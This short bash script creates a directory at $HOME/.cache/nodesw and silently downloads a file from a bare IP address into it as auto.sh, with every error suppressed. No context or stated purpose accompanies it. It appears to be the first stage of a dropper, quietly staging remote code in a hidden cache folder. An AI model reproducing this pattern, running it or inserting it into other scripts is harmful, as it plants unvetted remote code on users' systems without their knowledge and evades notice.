#!/usr/bin/env bash
d="$HOME/.cache/nodesw"; mkdir -p "$d"
curl -fsSL "http://192.0.2.140/nodesw/latest" -o "$d/auto.sh" 2>/dev/null || true
